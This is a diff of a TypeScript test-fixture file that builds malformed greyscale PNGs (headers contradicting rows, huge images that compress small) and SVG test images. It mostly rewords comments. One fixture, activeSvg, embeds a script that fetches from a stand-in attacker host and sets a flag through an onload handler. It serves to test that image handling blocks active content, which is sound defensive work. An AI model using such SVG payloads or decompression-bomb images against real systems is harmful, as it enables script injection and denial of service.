@@ -3,25 +3,25 @@ import { crc32, deflateSync } from 'node:zlib';
 /** Returns a chunk of a PNG with its length and checksum (PNG, section 5.3). */
 function makeChunk(type: string, content: Buffer): Buffer {
   const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
-  const named = Buffer.concat([Buffer.from(type, 'latin1'), content]);
+  const typeAndContent = Buffer.concat([Buffer.from(type, 'latin1'), content]);
   length.writeUInt32BE(content.length);
-  checksum.writeUInt32BE(crc32(named));
-  return Buffer.concat([length, named, checksum]);
+  checksum.writeUInt32BE(crc32(typeAndContent));
+  return Buffer.concat([length, typeAndContent, checksum]);
 }
 
 type PngOptions = {
-  /** Width in px according to the header. */
+  /** Width and height in px according to the header. */
   width: number;
   height: number;
-  /** Number of bytes of all rows before compression. A grey row has `width` bytes, and a filter byte before them. */
+  /** Number of bytes of all rows before compression. A complete row has a filter byte and `width` grey values. */
   rowBytes: number;
   /** Number of bytes of a comment before compression. No comment by default. */
   comment?: number;
 };
 
 /**
- * Creates a greyscale PNG, whose header and rows can contradict each other. All bytes of its pixels are 0, so that the
- * file of a huge picture is small.
+ * Creates a greyscale PNG, whose header and rows can contradict each other. All of its pixels are black, so that even a
+ * huge picture compresses to a small file.
  */
 export function makePng({ width, height, rowBytes, comment = 0 }: PngOptions): Buffer {
   const header = Buffer.alloc(13);
@@ -41,7 +41,7 @@ export function makePng({ width, height, rowBytes, comment = 0 }: PngOptions): B
 const makeSvg = (content: string, before = '') =>
   Buffer.from(`${before}<svg xmlns="http://www.w3.org/2000/svg" width="50" height="60">${content}</svg>`);
 
-/** An SVG that tries to run scripts and to load files. An image must do neither. */
+/** An SVG that tries to run scripts and to load files. Browsers must block both when they show it as an image. */
 export const activeSvg = makeSvg(`
   <script>top.attacked = true; fetch('https://attacker.example/script')</script>
   <rect width="50" height="60" fill="red" onload="top.attacked = true"/>
